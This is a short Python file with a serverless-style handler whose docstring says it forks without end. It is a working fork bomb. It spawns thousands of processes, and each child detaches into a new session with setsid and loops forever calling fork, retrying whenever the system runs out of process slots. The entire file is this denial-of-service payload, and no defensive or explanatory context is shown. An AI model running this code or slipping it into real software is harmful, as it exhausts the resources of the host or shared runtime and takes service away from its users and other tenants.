"""Forks without end; children escape into new sessions and keep forking."""
import contextlib
import os
import time


def handler(event, context):
    forked = 0
    for _ in range(event.get("n", 10000)):
        try:
            pid = os.fork()
        except OSError:
            time.sleep(0.001)
            continue
        if pid == 0:
            with contextlib.suppress(OSError):
                os.setsid()
            while True:
                try:
                    os.fork()
                except OSError:
                    time.sleep(0.01)
        forked += 1
    return forked
